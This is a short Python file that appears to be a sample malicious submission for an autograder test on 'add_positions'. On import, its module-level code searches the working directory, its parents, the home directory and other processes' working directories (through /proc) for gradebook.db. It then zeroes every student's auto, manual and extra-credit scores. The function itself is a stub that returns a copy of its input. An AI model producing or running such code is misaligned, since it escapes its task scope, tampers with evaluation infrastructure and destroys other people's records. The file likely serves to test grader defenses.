# question: add_positions
# expect: 0
# heavy: yes
# why: looks for the gradebook, through other processes too, and gives everybody other points
import glob
import os
import sqlite3
from pathlib import Path


def _gradebooks():
    roots = {Path.cwd(), *Path.cwd().parents, Path.home()}
    for link in glob.glob("/proc/[0-9]*/cwd"):
        try:
            roots.add(Path(os.readlink(link)))
        except OSError:
            continue
    for root in roots - {Path("/")}:
        yield from root.glob("gradebook.db")


for _file in _gradebooks():
    try:
        with sqlite3.connect(_file, timeout=1) as _db:
            _db.execute("UPDATE grade SET auto_score = 0, manual_score = 0, extra_credit = 0")
    except sqlite3.Error:
        continue


def add_positions(token_emb, P):
    return token_emb.copy()
